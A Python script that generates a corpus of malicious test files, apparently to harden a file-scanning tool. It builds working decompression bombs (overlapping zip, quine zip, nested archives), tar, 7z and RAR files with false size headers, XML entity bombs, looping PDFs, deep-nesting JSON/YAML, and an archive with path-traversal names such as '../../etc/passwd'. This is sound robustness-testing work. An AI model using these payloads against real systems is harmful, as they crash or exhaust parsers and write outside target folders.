#!/usr/bin/env python3
"""make.py DIR: makes the hostile corpus: files that want to hurt who opens them. All are made here, of nothing."""

import binascii
import bz2
import gzip
import io
import lzma
import os
import random
import struct
import sys
import tarfile
import zipfile
import zlib

ADDRESS = b"jane.roe@contoso.example"
LINE = b"contact: " + ADDRESS + b", phone +1 212 555 0100\n"
MIB = 1 << 20


def zip_of(members, method=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method, compresslevel=9) as z:
        for name, content in members:
            z.writestr(zipfile.ZipInfo(name), content, method)
    return out.getvalue()


def local(name, packed, size, crc, method=8, extra=b""):
    return struct.pack("<IHHHIIIIHH", 0x04034B50, 20, 0, method, 0, crc, len(packed), size, len(name), len(extra)) + \
        name + extra + packed


def central(name, packed, size, crc, at, method=8):
    return struct.pack("<IHHHHIIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0, crc, packed, size, len(name), 0, 0, 0, 0,
                       0, at) + name


def end(count, directory, at, comment=b""):
    return struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count & 0xFFFF, count & 0xFFFF, directory, at,
                       len(comment)) + comment


def deflate(content):
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(content) + c.flush()


def overlap_zip():
    """A member that unpacks to 4 MiB, and ten thousand entries for it: 40 GiB."""
    kernel = LINE + bytes(4 * MIB)
    packed, crc = deflate(kernel), zlib.crc32(kernel)
    data = local(b"0", packed, len(kernel), crc)
    directory = b"".join(central(b"%d" % i, len(packed), len(kernel), crc, 0) for i in range(10000))
    return data + directory + end(10000, len(directory), len(data))


def quoted_zip():
    """The same without two entries for one place: each member has the headers of those behind it in its data."""
    kernel = LINE + bytes(4 * MIB)
    data = local(b"0999", deflate(kernel), len(kernel), zlib.crc32(kernel))
    entries = [(b"0999", len(data) - 34, len(kernel), zlib.crc32(kernel), len(data))]
    content = kernel
    for i in range(998, 900, -1):
        name, head = b"%04d" % i, data[:34]
        content = head + content
        packed = struct.pack("<BHH", 0, len(head), len(head) ^ 0xFFFF) + data
        data = local(name, packed, len(content), zlib.crc32(content))
        entries.append((name, len(packed), len(content), zlib.crc32(content), len(data)))
    whole = len(data)
    directory = b"".join(central(name, packed, size, crc, whole - behind)
                         for name, packed, size, crc, behind in reversed(entries))
    return data + directory + end(len(entries), len(directory), whole)


class Bits:
    """Deflate's bits: numbers from the lowest bit on, codes from the highest."""

    def __init__(self):
        self.bits = []

    def number(self, value, width):
        self.bits += [value >> i & 1 for i in range(width)]

    def code(self, value, width):
        self.bits += [value >> i & 1 for i in reversed(range(width))]

    def bytes(self):
        assert len(self.bits) % 8 == 0
        return bytes(sum(b << i for i, b in enumerate(self.bits[k:k + 8])) for k in range(0, len(self.bits), 8))


def repeat_20():
    """Five bytes of deflate: repeat the last 20 bytes, as two matches of 10."""
    b = Bits()
    b.number(0, 1), b.number(1, 2)
    for _ in range(2):
        b.code(264 - 256, 7), b.code(8, 5), b.number(20 - 17, 3)
    b.code(0, 7)
    return b.bytes()


def repeat_258(last):
    """Five bytes: repeat the last 258 bytes; then an empty block, which may be the last."""
    b = Bits()
    b.number(0, 1), b.number(1, 2)
    b.code(285 - 280 + 0b11000000, 8), b.code(16, 5), b.number(258 - 257, 7), b.code(0, 7)
    b.number(last, 1), b.number(1, 2), b.code(0, 7)
    return b.bytes()


def quine_zip():
    """A zip that holds itself, in the way of R. Cox, "Zip Files All The Way Down" (2010)."""
    name = b"quine.zip"

    def stored(n):
        return struct.pack("<BHH", 0, n, n ^ 0xFFFF)

    def build(crc, size, packed):
        p = struct.pack("<IHHHIIIIHH", 0x04034B50, 20, 0, 8, 0, crc, packed, size, len(name), 253 - 30 - len(name)) + name
        p += struct.pack("<HH", 0xCAFE, 253 - len(p) - 4)
        p += bytes(253 - len(p))
        at = len(p) + packed
        s = central(name, packed, size, crc, 0)
        s += end(1, len(s), at, bytes(253 - len(s) - 22))
        rp, rs, r4 = repeat_258(0), repeat_258(1), repeat_20()
        lp, ls, l1, l4, l0 = stored(258), stored(258), stored(5), stored(20), stored(0)
        code = lp + p + lp + rp + l1 + rp + l1 + l1 + l4 + rp + l1 + l1 + l4 + r4 + l4 + r4 + l4 + r4 + l4 + r4 + \
            l4 + r4 + l0 + l0 + ls + r4 + l0 + l0 + ls + rs + s + rs
        return p, code, s

    p, code, s = build(0, 0, 0)
    size, packed = len(p + code + s), len(code)
    # The checksum stands in what it is of; it is affine in those bits: solve x = A x + b.
    b = zlib.crc32(b"".join(build(0, size, packed)))
    rows = []
    columns = [zlib.crc32(b"".join(build(1 << i, size, packed))) ^ b for i in range(32)]
    for bit in range(32):
        row = sum((columns[i] >> bit & 1) << i for i in range(32)) ^ 1 << bit
        rows.append([row, b >> bit & 1])
    crc, used = 0, []
    for i in range(32):
        pivot = next((r for r in rows if r[0] >> i & 1 and not any(r is u for u in used)), None)
        if not pivot:
            continue
        used.append(pivot)
        for r in rows:
            if r is not pivot and r[0] >> i & 1:
                r[0] ^= pivot[0]
                r[1] ^= pivot[1]
    for r in used:
        low = (r[0] & -r[0]).bit_length() - 1
        crc |= r[1] << low
    quine = b"".join(build(crc, size, packed))
    with zipfile.ZipFile(io.BytesIO(quine)) as z:
        assert z.read(name.decode()) == quine
    return quine


def nested(depth, wrap):
    content = LINE
    for i in range(depth):
        content = wrap(content, i)
    return content


def tar_of(members):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.GNU_FORMAT) as t:
        for name, content in members:
            info = tarfile.TarInfo(name)
            info.size = len(content)
            t.addfile(info, io.BytesIO(content))
    return out.getvalue()


def resized(tar, at, size):
    """The size of the member whose header is at at, in octal or, where it must be, in binary."""
    head = bytearray(tar[at:at + 512])
    head[124:136] = b"%011o\0" % size if 0 <= size < 8 ** 11 else bytes([0x80 if size >= 0 else 0xFF]) + \
        (size & (1 << 88) - 1).to_bytes(11, "big")
    head[148:156] = b" " * 8
    head[148:156] = b"%06o\0 " % sum(head)
    return tar[:at] + bytes(head) + tar[at + 512:]


def lying_tar(size):
    tar = tar_of([("a.txt", LINE), ("b.txt", LINE.replace(b"jane", b"john")), ("c.txt", LINE)])
    return resized(tar, 1024, size)


def entity_bomb(levels=9):
    lines = ['<?xml version="1.0"?>', "<!DOCTYPE lolz [", ' <!ENTITY e0 "john.roe@contoso.example ">']
    lines += [' <!ENTITY e%d "%s">' % (i, ("&e%d;" % (i - 1)) * 10) for i in range(1, levels + 1)]
    lines += ["]>", "<lolz>%s &e%d;</lolz>" % (ADDRESS.decode(), levels)]
    return "\n".join(lines).encode()


def quadratic_bomb():
    return b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e "' + b"A" * 50000 + b'">]><a>' + ADDRESS + b" " + \
        b"&e;" * 20000 + b"</a>"


def pdf(objects, root=1):
    out = b"%PDF-1.4\n"
    places = []
    for i, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % p for p in places)
    return out + b"trailer << /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, at)


def looping_pdf():
    content = b"BT /F1 12 Tf (" + ADDRESS + b") Tj ET /X1 Do"
    return pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 /Parent 2 0 R >>",
        b"<< /Type /Page /Parent 2 0 R /Contents [5 0 R 6 0 R] /Resources 4 0 R >>",
        b"<< /XObject << /X1 6 0 R >> /Font 4 0 R /Next 4 0 R >>",
        b"<< /Length %d >> stream\n" % len(content) + content + b"\nendstream",
        b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources 4 0 R /Length 6 0 R >> stream\n/X1 Do\nendstream",
    ])


def package(parts):
    return zip_of(parts)


def docx(document):
    return package([
        ("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
         'content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" '
         'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'),
        ("word/document.xml", document)])


def xlsx(sheet):
    return package([
        ("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
         'content-types"><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
         'spreadsheetml.sheet.main+xml"/></Types>'),
        ("xl/workbook.xml", '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://'
         'schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="A" sheetId="1" r:id="rId1"/>'
         "</sheets></workbook>"),
        ("xl/_rels/workbook.xml.rels", '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
         '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
         'Target="worksheets/sheet1.xml"/></Relationships>'),
        ("xl/worksheets/sheet1.xml", sheet)])


def rows_xlsx():
    row = '<row r="1"><c r="A1" t="inlineStr"><is><t>%s</t></is></c></row>' % ADDRESS.decode()
    return xlsx('<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                '<dimension ref="A1:XFD1048576"/><sheetData>' + row * 200000 +
                '<row r="4294967295"><c r="ZZZZZZ999999999" t="s"><v>4000000000</v></c></row></sheetData></worksheet>')


def rows_ods():
    content = ('<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
               'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
               'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet><table:table '
               'table:name="A"><table:table-row table:number-rows-repeated="1000000000"><table:table-cell '
               'table:number-columns-repeated="1000000000"><text:p>%s</text:p></table:table-cell></table:table-row>'
               "</table:table></office:spreadsheet></office:body></office:document-content>" % ADDRESS.decode())
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet", zipfile.ZIP_STORED)
        z.writestr("content.xml", content)
    return out.getvalue()


def sevenzip(dictionary):
    """A member packed by LZMA, whose dictionary is said to be of so many bytes."""
    packed = lzma.compress(LINE, lzma.FORMAT_RAW, filters=[{"id": lzma.FILTER_LZMA1, "dict_size": 4096}])
    name = "a.txt".encode("utf-16le") + b"\0\0"
    head = bytes([1, 4, 6, 0, 1, 9, len(packed), 0, 7, 11, 1, 0, 1, 0x23, 3, 1, 1, 5, 0x5D]) + \
        struct.pack("<I", dictionary) + bytes([12, len(LINE), 0, 8, 0, 0, 5, 1, 0x11, len(name) + 1, 0]) + name + bytes(2)
    start = struct.pack("<QQI", len(packed), len(head), zlib.crc32(head))
    return b"7z\xbc\xaf\x27\x1c\0\4" + struct.pack("<I", zlib.crc32(start)) + start + packed + head


def vint(n):
    out = b""
    while n > 127:
        out += bytes([n & 127 | 128])
        n >>= 7
    return out + bytes([n])


def rar5(size, packing):
    def block(kind, flags, body, data=b""):
        head = vint(kind) + vint(flags) + (vint(len(data)) if flags & 2 else b"") + body
        head = vint(len(head)) + head
        return struct.pack("<I", zlib.crc32(head)) + head + data

    rng = random.Random(1)
    body = vint(0) + vint(size) + vint(0o644) + vint(packing) + vint(1) + vint(5) + b"a.txt"
    return b"Rar!\x1a\x07\1\0" + block(1, 0, vint(0)) + block(2, 2, body, rng.randbytes(3000)) + block(5, 0, vint(0))


def mail_of(depth):
    head = b"From: " + ADDRESS + b"\nMIME-Version: 1.0\n"
    for i in range(depth):
        head += b'Content-Type: multipart/mixed; boundary="b%d"\n\n--b%d\n' % (i, i)
    return head + b"\n" + LINE


def uu(content, name=b"a.csv"):
    lines = [binascii.b2a_uu(content[i:i + 45], backtick=True) for i in range(0, len(content), 45)]
    return b"begin 644 " + name + b"\n" + b"".join(lines) + b"`\nend\n"


def uu_in_uu(depth):
    inner = LINE
    for i in range(depth):
        inner = uu(inner, b"%d.uu" % i)
    return inner


def corpus():
    """Name, content."""
    rng = random.Random(7)
    zeros = bytes(100 * MIB)
    yield "bomb-overlap.zip", overlap_zip()
    yield "bomb-quoted.zip", quoted_zip()
    yield "bomb-ratio.zip", zip_of([("a.txt", LINE), ("zeros", zeros), ("z.txt", LINE)])
    yield "bomb.gz", gzip.compress(LINE + zeros, 9)
    yield "bomb.bz2", bz2.compress(LINE + zeros, 9)
    yield "bomb.xz", lzma.compress(LINE + zeros, preset=1)
    yield "quine.zip", quine_zip()
    yield "nested-42.zip", nested(42, lambda c, i: zip_of([("%d.zip" % i, c)]))
    yield "nested-42.gz", nested(42, lambda c, i: gzip.compress(c))
    yield "nested-42.tar", nested(42, lambda c, i: tar_of([("%d.tar" % i, c)]))
    yield "nested-42-mixed.xz", nested(14, lambda c, i: lzma.compress(bz2.compress(zip_of([("m", c)]))))
    yield "wide-5.zip", nested(5, lambda c, i: zip_of([("%d" % k, c) for k in range(10)]))
    many = zip_of([("a.txt", LINE), ("b.txt", LINE)])
    yield "count-more.zip", many.replace(b"PK\5\6\0\0\0\0\2\0\2\0", b"PK\5\6\0\0\0\0\xff\xff\xff\xff")
    yield "count-less.zip", many.replace(b"PK\5\6\0\0\0\0\2\0\2\0", b"PK\5\6\0\0\0\0\1\0\1\0")
    yield "no-directory.zip", many[:many.index(b"PK\1\2")]
    yield "wrong-directory.zip", many.replace(b"PK\1\2", b"PK\1\3")
    yield "names.zip", zip_of([("../../etc/passwd", LINE), ("/etc/shadow", LINE), ("\x1b[2J\r\n\0x", LINE), ("", LINE)])
    yield "lying-long.tar", lying_tar(1 << 30)
    yield "lying-huge.tar", lying_tar((1 << 62) + 5)
    yield "lying-negative.tar", lying_tar(-1)
    yield "lying-short.tar", lying_tar(3)
    yield "giant-dictionary.7z", sevenzip(0xFFFFFFFF)
    yield "giant-dictionary.rar", rar5(1 << 40, 3 << 7 | 15 << 10)
    yield "lying-size.rar", rar5(1 << 60, 0)
    yield "entities.xml", entity_bomb()
    yield "entities.svg", entity_bomb().replace(b"lolz", b"svg")
    yield "entities-quadratic.xml", quadratic_bomb()
    yield "entities.docx", docx(entity_bomb())
    yield "deep.xml", b"<?xml version='1.0'?>" + b"<a>" * 100000 + LINE + b"</a>" * 100000
    yield "deep.html", b"<!DOCTYPE html><html>" + b"<div><b>" * 100000 + LINE
    yield "loops.pdf", looping_pdf()
    yield "deep.pdf", pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"[" * 50000 + b"]" * 50000])
    yield "deep.json", b"[" * 100000 + b'"' + ADDRESS + b'"' + b"]" * 100000
    yield "deep-objects.json", b'{"a":' * 100000 + b'"' + ADDRESS + b'"' + b"}" * 100000
    yield "deep.yaml", b"a: " + b"[" * 100000 + LINE
    yield "anchors.yaml", b"a0: &a0 [x]\n" + b"".join(b"a%d: &a%d [%s]\n" % (i, i, b",".join([b"*a%d" % (i - 1)] * 10))
                                                     for i in range(1, 12)) + LINE
    yield "rows.xlsx", rows_xlsx()
    yield "rows.ods", rows_ods()
    yield "parts.eml", mail_of(5000)
    head = b"From: someone\nMIME-Version: 1.0\nSubject: files\n\n"
    yield "uu.eml", head + b"see\n" + uu(LINE) + b"bye\n"
    yield "uu-lying.eml", head + b"see\nbegin 644 a\n" + b"#86)C\n" + b"M86)C\n_\n" * 1000 + b"#86)C" * 50 + b"\n`\nend\n" + LINE
    yield "uu-no-end.eml", head + uu(LINE * 100)[:-6]
    yield "uu-nested.eml", head + b"see\n" + uu_in_uu(20)
    yield "uu-many.eml", head + uu(b"x") * 30000 + LINE
    yield "uu-begins.eml", head + b"begin 644 a\n" * 100000 + LINE
    yield "colons.eml", b"From: " + ADDRESS + b"\n" + b"To: " + b":" * 99999 + b"\n\n" + LINE
    yield "columns.csv", b"a;" * 300000 + b"\n" + (ADDRESS + b";") * 30000 + b"\n"
    yield "quote.csv", b'name,mail\n"' + LINE * 40000
    yield "line.sql", b"INSERT INTO t (mail) VALUES " + b"('" + ADDRESS + b"')," * 50000
    yield "noise", rng.randbytes(MIB)
    yield "empty", b""


# What no reader may call done when something is missing, by ending.
STRICT = (".zip", ".7z", ".gz", ".bz2", ".xz", ".lz", ".lz4", ".zst", ".docx", ".xlsx", ".pptx", ".odt", ".ods", ".odp")


LEAST = 16


def truncated(files, out):
    """Every file of test/files, cut at each sixteenth; nothing can be told of fewer than LEAST bytes."""
    for folder, _, names in sorted(os.walk(files)):
        for name in sorted(names):
            path = os.path.join(folder, name)
            content = open(path, "rb").read()
            if name.endswith((".sh", ".py", ".md")) or len(content) < 32:
                continue
            kind = os.path.join(out, os.path.basename(folder))
            os.makedirs(kind, exist_ok=True)
            for part in range(1, 16):
                if len(content) * part // 16 < LEAST:
                    continue
                with open(os.path.join(kind, "%02d-%s" % (part, name)), "wb") as cut:
                    cut.write(content[:len(content) * part // 16])


def main():
    out = sys.argv[1]
    os.makedirs(out, exist_ok=True)
    for name, content in corpus():
        with open(os.path.join(out, name), "wb") as f:
            f.write(content)


if __name__ == "__main__":
    main()
